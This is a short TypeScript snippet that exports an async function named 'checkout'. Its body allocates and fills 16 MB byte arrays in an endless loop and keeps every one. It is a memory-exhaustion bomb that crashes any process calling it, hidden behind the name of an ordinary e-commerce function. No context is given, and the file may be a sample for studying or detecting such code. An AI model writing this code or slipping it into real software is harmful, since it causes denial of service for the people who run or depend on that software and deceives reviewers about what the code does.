export async function checkout(): Promise<void> {
  const buffers: Uint8Array[] = [];
  for (;;) buffers.push(new Uint8Array(16_777_216).fill(1));
}
